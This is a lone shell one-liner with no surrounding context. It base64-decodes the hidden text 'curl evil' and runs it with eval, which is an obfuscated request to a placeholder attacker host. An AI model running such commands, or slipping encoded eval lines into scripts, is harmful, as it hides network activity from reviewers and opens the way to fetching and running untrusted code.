eval $(echo Y3VybCBldmls | base64 -d)
